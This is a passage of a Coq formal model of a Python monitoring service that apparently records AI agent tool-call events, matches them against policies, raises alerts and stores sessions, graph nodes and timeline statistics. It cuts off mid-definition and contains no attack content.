    ever hold whole numbers (1.0 plus a count), kept as integers. *)
Record GraphNode := mkNode {
  node_id : UUID;
  node_type : NodeType;
  node_label : string;
  node_value : string;
  node_first_seen : datetime;
  node_last_seen : datetime;
  node_access_count : Z;
  node_alert_count : Z;
  node_session_ids : list string;
  node_event_ids : list UUID;
  node_size : Z;
  node_color : option string;
  node_metadata : PyDict JVal
}.

Record GraphEdge := mkEdge {
  edge_id : UUID;
  edge_source_id : UUID;
  edge_target_id : UUID;
  edge_relation : EdgeRelation;
  edge_first_seen : datetime;
  edge_last_seen : datetime;
  edge_count : Z;
  edge_session_ids : list string;
  edge_event_ids : list UUID;
  edge_weight : Z;
  edge_color : option string;
  edge_metadata : PyDict JVal
}.

Inductive AlertStatus := ST_NEW | ST_INVESTIGATING | ST_RESOLVED | ST_DISMISSED.

Inductive ConditionOperator :=
| OP_EQUALS | OP_NOT_EQUALS | OP_CONTAINS | OP_NOT_CONTAINS | OP_STARTS_WITH
| OP_ENDS_WITH | OP_MATCHES | OP_NOT_MATCHES | OP_GREATER_THAN | OP_LESS_THAN
| OP_IN | OP_NOT_IN.

Record RuleCondition := mkCondition {
  cond_field : string;
  cond_operator : ConditionOperator;
  cond_value : JVal;
  cond_case_sensitive : bool
}.

Record Policy := mkPolicy {
  policy_id : UUID;
  policy_name : string;
  policy_description : string;
  policy_enabled : bool;
  policy_categories : list EventCategory;
  policy_tools : list string;
  policy_conditions : list RuleCondition;
  policy_condition_logic : string;
  policy_action : PolicyAction;
  policy_severity : Severity;
  policy_alert_title : string;
  policy_alert_description : string;
  policy_tags : list string
}.

Record AlertEvidence := mkEvidence {
  evidence_event_id : UUID;
  evidence_timestamp : datetime;
  evidence_description : string;
  evidence_data : PyDict JVal;
  evidence_file_path : option string;
  evidence_command : option string;
  evidence_url : option string
}.

(** The columns of the alerts table, as [save_alert] writes them. *)
Record Alert := mkAlert {
  alert_id : UUID;
  alert_session_id : string;
  alert_created_at : datetime;
  alert_updated_at : datetime;
  alert_title : string;
  alert_description : string;
  alert_severity : Severity;
  alert_category : EventCategory;
  alert_status : AlertStatus;
  alert_assigned_to : option string;
  alert_policy_id : option UUID;
  alert_event_ids : list UUID;
  alert_evidence : list AlertEvidence;
  alert_action_taken : option string;
  alert_blocked : bool;
  alert_tags : list string;
  alert_metadata : PyDict JVal
}.

(** The evaluation of one condition of a policy lives in
    [models/alerts.py], which is not among the sources; it is an interface
    of the development. *)
Class ConditionEval := {
  cond_evaluate : RuleCondition -> PyDict JVal -> bool
}.

Module Policies.

(** Modelled from the spec: [Policy.matches] ([models/alerts.py] is not
    among the sources).  A disabled policy never matches; a category
    allowlist that is not empty must hold the category of the event; a tool
    allowlist that is not empty must hold its tool name; the conditions are
    combined by the logic of the policy ([all]: and, [any]: or); a policy
    without categories, tools and conditions matches every event. *)
Definition matches `{ConditionEval} (p : Policy) (event_data : PyDict JVal) : bool :=
  policy_enabled p &&
  (match policy_categories p with
   | [] => true
   | cats =>
       match dict_get event_data "category" with
       | Some (JStr c) => Str.mem c (map category_value cats)
       | _ => false
       end
   end) &&
  (match policy_tools p with
   | [] => true
   | tools =>
       match dict_get event_data "tool_name" with
       | Some (JStr t) => Str.mem t tools
       | _ => false
       end
   end) &&
  (match policy_conditions p with
   | [] => true
   | conds =>
       if String.eqb (policy_condition_logic p) "any"
       then existsb (fun c => cond_evaluate c event_data) conds
       else forallb (fun c => cond_evaluate c event_data) conds
   end).

(** Modelled from the spec: [Alert.add_evidence] appends one evidence item
    carrying the event id, a timestamp, the description and the optional
    file, command and URL. *)
Definition add_evidence (alert : Alert) (now : datetime) (event_id : UUID)
    (description : string) (data : PyDict JVal)
    (file_path command url : option string) : Alert :=
  mkAlert (alert_id alert) (alert_session_id alert) (alert_created_at alert)
    (alert_updated_at alert) (alert_title alert) (alert_description alert)
    (alert_severity alert) (alert_category alert) (alert_status alert)
    (alert_assigned_to alert) (alert_policy_id alert) (alert_event_ids alert)
    (alert_evidence alert ++
       [mkEvidence event_id now description data file_path command url])
    (alert_action_taken alert) (alert_blocked alert) (alert_tags alert)
    (alert_metadata alert).

End Policies.

(** ** The store ([store/database.py])

    A table is the list of its rows.  Row ids are UUIDs drawn by [uuid4];
    two draws never give the same id, so a clash on a primary key is not
    part of the model. *)

Module Store.

Record Session := mkSession {
  s_id : UUID;
  s_session_id : string;
  s_started_at : datetime;
  s_ended_at : option datetime;
  s_cwd : option string;
  s_parent_session_id : option string;
  s_event_count : Z;
  s_alert_count : Z;
  s_risk_score : Z;
  s_status : string;
  s_endpoint_hostname : option string;
  s_endpoint_user : option string;
  s_session_source : option string
}.

(** The tables. *)
Record Database := mkDatabase {
  sessions : list Session;
  events : list Event;
  alerts : list Alert;
  policies : list Policy;
  graph_nodes : list GraphNode;
  graph_edges : list GraphEdge
}.

Definition empty_database : Database := mkDatabase [] [] [] [] [] [].

Definition set_sessions (db : Database) (ss : list Session) : Database :=
  mkDatabase ss (events db) (alerts db) (policies db) (graph_nodes db) (graph_edges db).
Definition set_events (db : Database) (es : list Event) : Database :=
  mkDatabase (sessions db) es (alerts db) (policies db) (graph_nodes db) (graph_edges db).
Definition set_alerts (db : Database) (als : list Alert) : Database :=
  mkDatabase (sessions db) (events db) als (policies db) (graph_nodes db) (graph_edges db).
Definition set_graph_nodes (db : Database) (ns : list GraphNode) : Database :=
  mkDatabase (sessions db) (events db) (alerts db) (policies db) ns (graph_edges db).
Definition set_graph_edges (db : Database) (es : list GraphEdge) : Database :=
  mkDatabase (sessions db) (events db) (alerts db) (policies db) (graph_nodes db) es.

(** [UPDATE sessions SET ... WHERE session_id = ?]: the rows of the session
    are rewritten by [f], the others stay. *)
Definition update_session (f : Session -> Session) (session_id : string)
    (db : Database) : Database :=
  set_sessions db
    (map (fun s => if String.eqb (s_session_id s) session_id then f s else s)
         (sessions db)).

(** [SET event_count = event_count + 1, status = 'active', ended_at = NULL] *)
Definition bump_event_count (s : Session) : Session :=
  mkSession (s_id s) (s_session_id s) (s_started_at s) None (s_cwd s)
    (s_parent_session_id s) (s_event_count s + 1) (s_alert_count s)
    (s_risk_score s) "active" (s_endpoint_hostname s) (s_endpoint_user s)
    (s_session_source s).

Definition increment_session_event_count (db : Database) (session_id : string) : Database :=
  update_session bump_event_count session_id db.

(** [SET alert_count = alert_count + 1] *)
Definition bump_alert_count (s : Session) : Session :=
  mkSession (s_id s) (s_session_id s) (s_started_at s) (s_ended_at s) (s_cwd s)
    (s_parent_session_id s) (s_event_count s) (s_alert_count s + 1)
    (s_risk_score s) (s_status s) (s_endpoint_hostname s) (s_endpoint_user s)
    (s_session_source s).

Definition increment_session_alert_count (db : Database) (session_id : string) : Database :=
  update_session bump_alert_count session_id db.

(** [SET risk_score = risk_score + ?] *)
Definition add_risk (delta : Z) (s : Session) : Session :=
  mkSession (s_id s) (s_session_id s) (s_started_at s) (s_ended_at s) (s_cwd s)
    (s_parent_session_id s) (s_event_count s) (s_alert_count s)
    (s_risk_score s + delta) (s_status s) (s_endpoint_hostname s)
    (s_endpoint_user s) (s_session_source s).

Definition increment_session_risk_score (db : Database) (session_id : string)
    (delta : Z) : Database :=
  update_session (add_risk delta) session_id db.

(** [SET ended_at = ?, status = 'ended'] *)
Definition mark_ended (now : datetime) (s : Session) : Session :=
  mkSession (s_id s) (s_session_id s) (s_started_at s) (Some now) (s_cwd s)
    (s_parent_session_id s) (s_event_count s) (s_alert_count s)
    (s_risk_score s) "ended" (s_endpoint_hostname s) (s_endpoint_user s)
    (s_session_source s).

(** [end_session]; [now] is [datetime.now(UTC)]. *)
Definition end_session (db : Database) (now : datetime) (session_id : string) : Database :=
  update_session (mark_ended now) session_id db.

(** [MAX(timestamp)] over the events of a session, [None] without events. *)
Definition last_event (db : Database) (session_id : string) : option datetime :=
  fold_left (fun acc e =>
               if String.eqb (ev_session_id e) session_id then
                 match acc with
                 | Some m => Some (Z.max m (ev_timestamp e))
                 | None => Some (ev_timestamp e)
                 end
               else acc)
            (events db) None.

(** The condition of [cleanup_stale_sessions] on one row. *)
Definition is_stale (db : Database) (cutoff : datetime) (s : Session) : bool :=
  String.eqb (s_status s) "active" &&
  match last_event db (s_session_id s) with
  | Some t => t <? cutoff
  | None => s_started_at s <? cutoff
  end.

(** [cleanup_stale_sessions]: the store after it and the number of rows
    closed.  A row is closed when its [session_id] is that of a stale
    row. *)
Definition cleanup_stale_sessions (db : Database) (now : datetime)
    (inactive_minutes : Z) : Database * nat :=
  let cutoff := now - seconds (60 * inactive_minutes) in
  let stale_ids := map s_session_id (List.filter (is_stale db cutoff) (sessions db)) in
  let closes s := String.eqb (s_status s) "active" && Str.mem (s_session_id s) stale_ids in
  (set_sessions db (map (fun s => if closes s then mark_ended now s else s) (sessions db)),
   length (List.filter closes (sessions db))).

(** [save_session]: on a conflict on [session_id] only the end time, the
    counters and the status are taken from the new row; [risk_score] is not
    among the inserted columns and starts at its default, 0. *)
Definition merge_session (new old : Session) : Session :=
  mkSession (s_id old) (s_session_id old) (s_started_at old) (s_ended_at new)
    (s_cwd old) (s_parent_session_id old) (s_event_count new) (s_alert_count new)
    (s_risk_score old) (s_status new) (s_endpoint_hostname old)
    (s_endpoint_user old) (s_session_source old).

Definition inserted_session (s : Session) : Session :=
  mkSession (s_id s) (s_session_id s) (s_started_at s) (s_ended_at s) (s_cwd s)
    (s_parent_session_id s) (s_event_count s) (s_alert_count s) 0 (s_status s)
    (s_endpoint_hostname s) (s_endpoint_user s) (s_session_source s).

Definition save_session (db : Database) (session : Session) : Database :=
  if existsb (fun s => String.eqb (s_session_id s) (s_session_id session)) (sessions db)
  then update_session (merge_session session) (s_session_id session) db
  else set_sessions db (sessions db ++ [inserted_session session]).

(** [save_event]: [INSERT OR REPLACE] on the id. *)
Definition save_event (db : Database) (event : Event) : Database :=
  set_events db
    (List.filter (fun e => negb (N.eqb (ev_id e) (ev_id event))) (events db) ++ [event]).

(** [save_alert]: on a conflict on the id the status, assignee, action
    notes, evidence, tags and metadata are overwritten. *)
Definition merge_alert (new old : Alert) : Alert :=
  mkAlert (alert_id old) (alert_session_id old) (alert_created_at old)
    (alert_updated_at old) (alert_title old) (alert_description old)
    (alert_severity old) (alert_category old) (alert_status new)
    (alert_assigned_to new) (alert_policy_id old) (alert_event_ids old)
    (alert_evidence new) (alert_action_taken new) (alert_blocked old)
    (alert_tags new) (alert_metadata new).

Definition save_alert (db : Database) (alert : Alert) : Database :=
  if existsb (fun a => N.eqb (alert_id a) (alert_id alert)) (alerts db)
  then set_alerts db
         (map (fun a => if N.eqb (alert_id a) (alert_id alert)
                        then merge_alert alert a else a) (alerts db))
  else set_alerts db (alerts db ++ [alert]).

(** The store writes of the [session-end] handler of the collector:
    [end_session], [save_event], [increment_session_event_count]. *)
Definition collect_session_end_writes (db : Database) (now : datetime)
    (event : Event) : Database :=
  increment_session_event_count
    (save_event (end_session db now (ev_session_id event)) event)
    (ev_session_id event).

(** *** Graph upserts *)

Definition node_key (n : GraphNode) : NodeType * string := (node_type n, node_value n).

Definition same_node_key (a b : GraphNode) : bool :=
  bool_decide (node_type a = node_type b) && String.eqb (node_value a) (node_value b).

(** The [DO UPDATE] branch of [save_graph_node]. *)
Definition merge_node (new old : GraphNode) : GraphNode :=
  mkNode (node_id old) (node_type old) (node_label old) (node_value old)
    (node_first_seen old) (node_last_seen new) (node_access_count old + 1)
    (node_alert_count old + node_alert_count new) (node_session_ids new)
    (node_event_ids new) (node_size old + 1) (node_color old) (node_metadata old).

(** [save_graph_node]: the store and the id of the row that now holds the
    (node_type, value) of [node]. *)
Definition save_graph_node (db : Database) (node : GraphNode) : Database * UUID :=
  match List.find (same_node_key node) (graph_nodes db) with
  | Some old =>
      (set_graph_nodes db
         (map (fun n => if same_node_key node n then merge_node node n else n)
              (graph_nodes db)),
       node_id old)
  | None => (set_graph_nodes db (graph_nodes db ++ [node]), node_id node)
  end.

Definition edge_key (e : GraphEdge) : UUID * UUID * EdgeRelation :=
  (edge_source_id e, edge_target_id e, edge_relation e).

Definition same_edge_key (a b : GraphEdge) : bool :=
  N.eqb (edge_source_id a) (edge_source_id b) &&
  N.eqb (edge_target_id a) (edge_target_id b) &&
  bool_decide (edge_relation a = edge_relation b).

(** The [DO UPDATE] branch of [save_graph_edge]. *)
Definition merge_edge (new old : GraphEdge) : GraphEdge :=
  mkEdge (edge_id old) (edge_source_id old) (edge_target_id old) (edge_relation old)
    (edge_first_seen old) (edge_last_seen new) (edge_count old + 1)
    (edge_session_ids new) (edge_event_ids new) (edge_weight old + 1)
    (edge_color old) (edge_metadata old).

Definition save_graph_edge (db : Database) (edge : GraphEdge) : Database :=
  if existsb (same_edge_key edge) (graph_edges db)
  then set_graph_edges db
         (map (fun e => if same_edge_key edge e then merge_edge edge e else e)
              (graph_edges db))
  else set_graph_edges db (graph_edges db ++ [edge]).

(** *** Lookups and the event flags *)

(** [get_session_by_id]: [SELECT * FROM sessions WHERE session_id = ?],
    first row. *)
Definition get_session_by_id (db : Database) (session_id : string) : option Session :=
  List.find (fun s => String.eqb (s_session_id s) session_id) (sessions db).

(** [get_event_by_id] *)
Definition get_event_by_id (db : Database) (event_id : UUID) : option Event :=
  List.find (fun e => N.eqb (ev_id e) event_id) (events db).

(** [get_alert_by_id] *)
Definition get_alert_by_id (db : Database) (id : UUID) : option Alert :=
  List.find (fun a => N.eqb (alert_id a) id) (alerts db).

(** [SET processed = 1] *)
Definition set_processed (e : Event) : Event :=
  mkEvent (ev_id e) (ev_session_id e) (ev_timestamp e) (ev_hook_type e)
    (ev_tool_name e) (ev_tool_input e) (ev_tool_result e) (ev_category e)
    (ev_severity e) (ev_file_paths e) (ev_commands e) (ev_urls e)
    (ev_ip_addresses e) true (ev_enriched e) (ev_raw_payload e).

(** [mark_event_processed]: [UPDATE events SET processed = 1 WHERE id = ?] *)
Definition mark_event_processed (db : Database) (event_id : UUID) : Database :=
  set_events db
    (map (fun e => if N.eqb (ev_id e) event_id then set_processed e else e) (events db)).

(** [LIMIT n]: a negative limit is no limit in SQLite. *)
Definition sql_limit {A} (limit : Z) (rows : list A) : list A :=
  if limit <? 0 then rows else take (Z.to_nat limit) rows.

(** [get_unprocessed_events]:
    [WHERE processed = 0 ORDER BY timestamp LIMIT ?] *)
Definition get_unprocessed_events (db : Database) (limit : Z) : list Event :=
  sql_limit limit
    (Py.sorted_by ev_timestamp
       (List.filter (fun e => negb (ev_processed e)) (events db))).

(** [get_events_before]: the rows
    [WHERE session_id = ? AND timestamp <= ? ORDER BY timestamp DESC LIMIT ?],
    reversed. *)
Definition get_events_before (db : Database) (session_id : string)
    (before : datetime) (limit : Z) : list Event :=
  rev (sql_limit limit
         (Py.sorted_by (fun e => - ev_timestamp e)
            (List.filter (fun e => String.eqb (ev_session_id e) session_id &&
                                   (ev_timestamp e <=? before))
                         (events db)))).

End Store.

(** ** Queries of the store ([store/database.py]) *)

Module Queries.
Import Store.

(** *** JSON text and SQL LIKE *)

Definition hex_digit (n : nat) : ascii :=
  ascii_of_nat (if (n <? 10)%nat then 48 + n else 87 + n).

(** [\u00XX] *)
Definition u_escape (n : nat) : string :=
  "\u00" +:+ String (hex_digit (n / 16)) (String (hex_digit (n mod 16)) EmptyString).

(** What [json.dumps] writes for one character of a string (characters
    above 127 are read as Latin-1). *)
Definition json_escape_char (c : ascii) : string :=
  let n := nat_of_ascii c in
  if (n =? 34)%nat then "\" +:+ dquote
  else if (n =? 92)%nat then "\\"
  else if (n =? 10)%nat then "\n"
  else if (n =? 13)%nat then "\r"
  else if (n =? 9)%nat then "\t"
  else if (n =? 8)%nat then "\b"
  else if (n =? 12)%nat then "\f"
  else if ((n <? 32) || (127 <? n))%nat then u_escape n
  else String c EmptyString.

Fixpoint json_escape (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => json_escape_char c +:+ json_escape s'
  end.

Definition json_string (s : string) : string := dquote +:+ json_escape s +:+ dquote.

(** [_serialize_json] of a list of strings: [json.dumps(xs)]. *)
Definition json_dumps_strings (xs : list string) : string :=
  "[" +:+ Py.join ", " (map json_string xs) +:+ "]".

(** SQLite's [text LIKE pattern]: [%] stands for any run of characters,
    [_] for one character, and letters match without regard to ASCII
    case. *)
Fixpoint sql_like (pattern : string) : string -> bool :=
  match pattern with
  | EmptyString => fun text => match text with EmptyString => true | _ => false end
  | String c pattern' =>
      if Ascii.eqb c "%"%char then
        fix skip (text : string) : bool :=
          sql_like pattern' text ||
          match text with
          | EmptyString => false
          | String _ text' => skip text'
          end
      else
        fun text =>
          match text with
          | EmptyString => false
          | String d text' =>
              (Ascii.eqb c "_"%char ||
               Ascii.eqb (Str.lower_ascii c) (Str.lower_ascii d)) &&
              sql_like pattern' text'
          end
  end.

(** *** [get_session_graph] *)

Record SessionGraph := mkSessionGraph {
  sg_nodes : list GraphNode;
  sg_edges : list GraphEdge
}.

(** [session_ids LIKE '%"<session_id>"%'] *)
Definition session_ids_like (session_id : string) (n : GraphNode) : bool :=
  sql_like ("%" +:+ dquote +:+ session_id +:+ dquote +:+ "%")
           (json_dumps_strings (node_session_ids n)).

Definition mem_uuid (x : UUID) (xs : list UUID) : bool := existsb (N.eqb x) xs.

Definition get_session_graph (db : Database) (session_id : string) : SessionGraph :=
  let nodes :=
    Py.sorted_by (fun n => - node_access_count n)
      (List.filter (session_ids_like session_id) (graph_nodes db)) in
  let edges :=
    match nodes with
    | [] => []
    | _ =>
        let node_ids := map node_id nodes in
        List.filter (fun e => mem_uuid (edge_source_id e) node_ids ||
                              mem_uuid (edge_target_id e) node_ids)
                    (graph_edges db)
    end in
  mkSessionGraph nodes edges.

(** *** [get_timeline_stats] *)

Definition MAX_TIMELINE_BUCKETS : nat := 500.

(** [interval_seconds.get(interval, 3600)] *)
Definition interval_seconds (interval : string) : Z :=
  if String.eqb interval "minute" then 60
  else if String.eqb interval "hour" then 3600
  else if String.eqb interval "day" then 86400
  else 3600.

(** [range_seconds / n > MAX_TIMELINE_BUCKETS], on exact numbers. *)
Definition exceeds_cap (from_date to_date : datetime) (n : Z) : bool :=
  Z.of_nat MAX_TIMELINE_BUCKETS * seconds n <? to_date - from_date.

(** The interval after the automatic upgrade. *)
Definition upgraded_interval (from_date to_date : datetime) (interval : string) : string :=
  if exceeds_cap from_date to_date (interval_seconds interval) then
    let '(interval, exceeds) :=
      if String.eqb interval "minute"
      then ("hour", exceeds_cap from_date to_date 3600)
      else (interval, true) in
    if exceeds then "day" else interval
  else interval.

(** The start of the minute, hour or day (UTC) a time falls in. *)
Definition floor_to (unit_seconds : Z) (t : datetime) : datetime :=
  t - t mod seconds unit_seconds.

(** The bucket of the SQL [strftime(time_format, ...)]: the minute for
    [minute], the day for [day], the hour otherwise.  A bucket text is
    identified with the time it prints. *)
Definition sql_bucket (interval : string) (t : datetime) : datetime :=
  if String.eqb interval "minute" then floor_to 60 t
  else if String.eqb interval "day" then floor_to 86400 t
  else floor_to 3600 t.

(** The step of the loop over the buckets. *)
Definition bucket_delta (interval : string) : Z :=
  if String.eqb interval "minute" then seconds 60
  else if String.eqb interval "day" then seconds 86400
  else seconds 3600.

(** [from_date] cut to the boundary of the interval. *)
Definition first_bucket (interval : string) (from_date : datetime) : datetime :=
  let current := floor_to 60 from_date in
  if String.eqb interval "hour" then floor_to 3600 current
  else if String.eqb interval "day" then floor_to 86400 current
  else current.

(** The bucket text the loop looks up for [current]. *)
Definition lookup_bucket (interval : string) (current : datetime) : datetime :=
  if String.eqb interval "minute" then floor_to 60 current
  else if String.eqb interval "hour" then floor_to 3600 current
  else floor_to 86400 current.

Record TimelinePoint := mkPoint {
  pt_timestamp : datetime;
  pt_events : Z;
  pt_alerts : Z
}.

Record Timeline := mkTimeline {
  tl_points : list TimelinePoint;
  tl_total_events : Z;
  tl_total_alerts : Z;
  tl_interval : string
}.

(** A Python value used as a condition: [None] and the empty string are
    falsy. *)
Definition given (x : option string) : bool :=
  match x with
  | Some s => negb (String.eqb s "")
  | None => false
  end.

Definition _get_session_ids_for_endpoint (db : Database) (endpoint : string) : list string :=
  map s_session_id
      (List.filter (fun s => bool_decide (s_endpoint_hostname s = Some endpoint))
                   (sessions db)).

(** The session filter of both queries: the session clause, or else the
    sessions of the endpoint. *)
Definition session_allowed (db : Database) (session_id endpoint : option string)
    (sid : string) : bool :=
  if given session_id then String.eqb sid (default "" session_id)
  else if given endpoint
       then Str.mem sid (_get_session_ids_for_endpoint db (default "" endpoint))
       else true.

(** The rows [WHERE timestamp >= ? AND timestamp <= ?] with the session
    filter, as (time, session id) pairs. *)
Definition rows_in_range (db : Database) (from_date to_date : datetime)
    (session_id endpoint : option string) (rows : list (datetime * string))
    : list (datetime * string) :=
  List.filter (fun r => (from_date <=? fst r) && (fst r <=? to_date) &&
                        session_allowed db session_id endpoint (snd r))
              rows.

(** [by_time.get(bucket_str, 0)]: the rows whose SQL bucket is the bucket
    looked up. *)
Definition bucket_count (interval : string) (rows : list (datetime * string))
    (current : datetime) : Z :=
  Z.of_nat (length (List.filter
                      (fun r => sql_bucket interval (fst r) =? lookup_bucket interval current)
                      rows)).

(** The loop that fills the points; [room] is what is left of the cap. *)
Fixpoint fill_points (room : nat) (interval : string) (to_date : datetime)
    (event_rows alert_rows : list (datetime * string)) (current : datetime)
    : list TimelinePoint :=
  match room with
  | O => []
  | S room' =>
      if current <=? to_date then
        mkPoint current (bucket_count interval event_rows current)
                (bucket_count interval alert_rows current)
        :: fill_points room' interval to_date event_rows alert_rows
             (current + bucket_delta interval)
      else []
  end.

Definition get_timeline_stats (db : Database) (from_date to_date : datetime)
    (interval : string) (session_id endpoint : option string) : Timeline :=
  let interval := upgraded_interval from_date to_date interval in
  if given endpoint && negb (given session_id) &&
     match _get_session_ids_for_endpoint db (default "" endpoint) with
     | [] => true
     | _ => false
     end
  then mkTimeline [] 0 0 interval
  else
    let event_rows :=
      rows_in_range db from_date to_date session_id endpoint
        (map (fun e => (ev_timestamp e, ev_session_id e)) (events db)) in
    let alert_rows :=
      rows_in_range db from_date to_date session_id endpoint
        (map (fun a => (alert_created_at a, alert_session_id a)) (alerts db)) in
    mkTimeline
      (fill_points MAX_TIMELINE_BUCKETS interval to_date event_rows alert_rows
                   (first_bucket interval from_date))
      (Z.of_nat (length event_rows)) (Z.of_nat (length alert_rows)) interval.

(** [get_timeline_stats] returns early, without points, when an endpoint
    filter (and no session filter) names a host without sessions. *)
Definition endpoint_unknown (db : Database) (session_id endpoint : option string) : bool :=
  given endpoint && negb (given session_id) &&
  match _get_session_ids_for_endpoint db (default "" endpoint) with
  | [] => true
  | _ => false
  end.

(** The rows both queries of [get_timeline_stats] count. *)
Definition event_rows (db : Database) (from_date to_date : datetime)
    (session_id endpoint : option string) : list (datetime * string) :=
  rows_in_range db from_date to_date session_id endpoint
    (map (fun e => (ev_timestamp e, ev_session_id e)) (events db)).

Definition alert_rows (db : Database) (from_date to_date : datetime)
    (session_id endpoint : option string) : list (datetime * string) :=
  rows_in_range db from_date to_date session_id endpoint
    (map (fun a => (alert_created_at a, alert_session_id a)) (alerts db)).

End Queries.

(** ** The engine ([engine/processor.py]) *)

(** [urlparse(url).hostname], from the Python library. *)
Class PyUrl := {
  url_hostname : string -> option string
}.

Module Engine.
Import Store Classifier Sequence.

Record Decision := mkDecision {
  allow : bool;
  reason : option string;
  modified_input : option (PyDict JVal);
  decision_alert_id : option UUID
}.

(** What is sent to the websocket clients. *)
Inductive Broadcast :=
| BroadcastAlert (alert : Alert)
| BroadcastEvent (event : Event).

(** The engine with what it owns (store, queue, cached policies, sequence
    tracker) and what the process reads and writes around it: the next
    [uuid4()], the clock and the broadcasts sent so far. *)
Record Engine := mkEngine {
  database : Database;
  _event_queue : list Event;
  _policies : list Policy;
  _sequence_tracker : SequenceTracker;
  next_uuid : UUID;
  clock : datetime;
  broadcasts : list Broadcast
}.

(** Code that runs on the engine: a state monad. *)
Definition M (A : Type) : Type := Engine -> A * Engine.

Definition ret {A} (x : A) : M A := fun w => (x, w).

Definition bind {A B} (m : M A) (k : A -> M B) : M B :=
  fun w => let '(x, w') := m w in k x w'.

Notation "'let*' x ':=' m 'in' k" := (bind m (fun x => k))
  (at level 10, x pattern, m at level 100, k at level 200).
Notation "m ';;' k" := (bind m (fun _ => k))
  (at level 100, k at level 200, right associativity).

(** [uuid4()] *)
Definition uuid4 : M UUID :=
  fun w => (next_uuid w,
            mkEngine (database w) (_event_queue w) (_policies w) (_sequence_tracker w)
                     (N.succ (next_uuid w)) (clock w) (broadcasts w)).

(** [datetime.now(UTC)]: the clock moves on between two readings. *)
Definition now : M datetime :=
  fun w => (clock w,
            mkEngine (database w) (_event_queue w) (_policies w) (_sequence_tracker w)
                     (next_uuid w) (clock w + 1) (broadcasts w)).

(** A call that writes to the store. *)
Definition on_database (f : Database -> Database) : M unit :=
  fun w => (tt,
            mkEngine (f (database w)) (_event_queue w) (_policies w)
                     (_sequence_tracker w) (next_uuid w) (clock w) (broadcasts w)).

Definition broadcast (b : Broadcast) : M unit :=
  fun w => (tt,
            mkEngine (database w) (_event_queue w) (_policies w) (_sequence_tracker w)
                     (next_uuid w) (clock w) (broadcasts w ++ [b])).

(** [enqueue]: [self._event_queue.put(event)] *)
Definition enqueue (event : Event) : M unit :=
  fun w => (tt,
            mkEngine (database w) (_event_queue w ++ [event]) (_policies w)
                     (_sequence_tracker w) (next_uuid w) (clock w) (broadcasts w)).

(** [for x in xs: body(x)] *)
Fixpoint for_each {A} (xs : list A) (body : A -> M unit) : M unit :=
  match xs with
  | [] => ret tt
  | x :: xs' => body x ;; for_each xs' body
  end.

(** A loop that appends one value per element to a list. *)
Fixpoint for_collect {A B} (xs : list A) (body : A -> M B) : M (list B) :=
  match xs with
  | [] => ret []
  | x :: xs' => let* y := body x in let* ys := for_collect xs' body in ret (y :: ys)
  end.

Definition _broadcast_alert (alert : Alert) : M unit := broadcast (BroadcastAlert alert).

Section WithLibraries.
Context `{PyRe} `{PyUrl} `{ConditionEval}.

(** *** Enrichment and classification *)

Definition enrich (event : Event) : Event :=
  mkEvent (ev_id event) (ev_session_id event) (ev_timestamp event)
    (ev_hook_type event) (ev_tool_name event) (ev_tool_input event)
    (ev_tool_result event) (ev_category event) (ev_severity event)
    (extract_file_paths event) (extract_commands event) (extract_urls event)
    (extract_ip_addresses event) (ev_processed event) true (ev_raw_payload event).

Definition set_category (event : Event) (c : EventCategory) : Event :=
  mkEvent (ev_id event) (ev_session_id event) (ev_timestamp event)
    (ev_hook_type event) (ev_tool_name event) (ev_tool_input event)
    (ev_tool_result event) c (ev_severity event)
    (ev_file_paths event) (ev_commands event) (ev_urls event)
    (ev_ip_addresses event) (ev_processed event) (ev_enriched event)
    (ev_raw_payload event).

Definition set_severity (event : Event) (v : Severity) : Event :=
  mkEvent (ev_id event) (ev_session_id event) (ev_timestamp event)
    (ev_hook_type event) (ev_tool_name event) (ev_tool_input event)
    (ev_tool_result event) (ev_category event) v
    (ev_file_paths event) (ev_commands event) (ev_urls event)
    (ev_ip_addresses event) (ev_processed event) (ev_enriched event)
    (ev_raw_payload event).

Definition classify (event : Event) : Event :=
  let event := set_category event (classify_event event) in
  set_severity event (compute_severity event).

(** *** [_event_to_dict] *)

(** The 32 hexadecimal digits of a UUID, in groups of 8-4-4-4-12. *)
Definition uuid_hex (u : UUID) (i : nat) : ascii :=
  Queries.hex_digit (N.to_nat ((u / 16 ^ N.of_nat (31 - i)) mod 16)%N).

Definition uuid_str (u : UUID) : string :=
  let digits lo hi := string_of_list_ascii (map (uuid_hex u) (seq lo (hi - lo))) in
  (digits 0 8 +:+ "-" +:+ digits 8 12 +:+ "-" +:+ digits 12 16 +:+ "-" +:+
   digits 16 20 +:+ "-" +:+ digits 20 32)%nat.

(** Truth value of a JSON value. *)
Definition truthy (v : JVal) : bool :=
  match v with
  | JNull => false
  | JBool b => b
  | JNum z => negb (z =? 0)
  | JStr s => negb (String.eqb s "")
  | JList l => match l with [] => false | _ => true end
  | JDict kv => match kv with [] => false | _ => true end
  end.

(** [raw.get(k)] *)
Definition raw_get (raw : PyDict JVal) (k : string) : JVal :=
  default JNull (dict_get raw k).

Definition opt_str (x : option string) : JVal :=
  match x with Some s => JStr s | None => JNull end.

Definition str_list (xs : list string) : JVal := JList (map JStr xs).

Definition _event_to_dict (event : Event) : PyDict JVal :=
  let raw := default [] (ev_raw_payload event) in
  [ ("id", JStr (uuid_str (ev_id event)));
    ("session_id", JStr (ev_session_id event));
    ("hook_type", JStr (ev_hook_type event));
    ("tool_name", opt_str (ev_tool_name event));
    ("tool_input", JDict (map (fun kv => (fst kv, JStr (snd kv))) (tool_input_or_empty event)));
    ("tool_result", JDict (default [] (ev_tool_result event)));
    ("category", JStr (category_value (ev_category event)));
    ("severity", JStr (severity_value (ev_severity event)));
    ("file_paths", str_list (ev_file_paths event));
    ("commands", str_list (ev_commands event));
    ("urls", str_list (ev_urls event));
    ("ip_addresses", str_list (ev_ip_addresses event));
    ("permission_mode", raw_get raw "permission_mode");
    ("query", raw_get raw "query");
    ("transcript_path", raw_get raw "transcript_path");
    ("session_cwd", if truthy (raw_get raw "session_cwd")
                    then raw_get raw "session_cwd" else raw_get raw "cwd");
    ("parent_session_id", raw_get raw "parent_session_id") ].

(** *** [evaluate_pre_tool] *)

(** [a or b] on strings *)
Definition or_str (a b : string) : string := if String.eqb a "" then b else a.

(** Modelled from the spec: the [Alert] constructor ([models/alerts.py] is
    not among the sources): a fresh id, the creation time, status [new], no
    assignee, no evidence, no action notes, no tags, empty metadata. *)
Definition new_alert (session_id title description : string) (severity : Severity)
    (category : EventCategory) (policy_id : option UUID) (event_ids : list UUID)
    (blocked : bool) : M Alert :=
  let* id := uuid4 in
  let* created := now in
